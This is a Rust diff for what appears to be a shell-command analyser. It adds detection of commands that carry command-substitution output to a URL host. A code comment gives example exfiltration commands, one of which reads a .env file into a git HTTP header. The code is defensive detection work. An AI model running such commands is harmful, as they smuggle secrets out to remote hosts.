@@ -479,6 +479,35 @@ fn code_effects(v: &mut ShellView, cl: &CommandLine, egress: &[bool]) {
 /// Records the network uses of one simple command: program `p` run with
 /// `args`, `stdin_code` the here-document or here-string fed to it.
 fn network(v: &mut ShellView, p: &str, args: &[Word], stdin_code: Option<&str>, extra: &[String]) {
+    let before = v.uses.len();
+    client_network(v, p, args, stdin_code, extra);
+    // Whatever the client, and whether or not it uploads: what a command
+    // substitution prints into its arguments goes with the request to the
+    // host a URL among them names, in a header, an option or the URL
+    // itself (`git -c http.extraHeader="X: $(cat .env)" ls-remote URL`,
+    // `pip install --index-url https://h/$(…)/simple x`).
+    if !v.uses[before..].iter().any(|u| u.egress)
+        && args
+            .iter()
+            .any(|w| w.text.contains("$(") || w.text.contains('`'))
+        && let Some(host) = args.iter().find_map(|w| crate::hosts::url_host(&w.text))
+    {
+        v.uses.push(NetUse::new(
+            &format!("`{p}`, with what a command substitution prints in its arguments"),
+            valid_host(&host).map_or(Dest::Dynamic, Dest::Host),
+            true,
+        ));
+    }
+}
+
+/// [`network`]'s reading of the clients it knows by name.
+fn client_network(
+    v: &mut ShellView,
+    p: &str,
+    args: &[Word],
+    stdin_code: Option<&str>,
+    extra: &[String],
+) {
     match p {
         "curl" => clients::curl(v, args),
         "wget" | "wget2" => clients::wget(v, p, args),
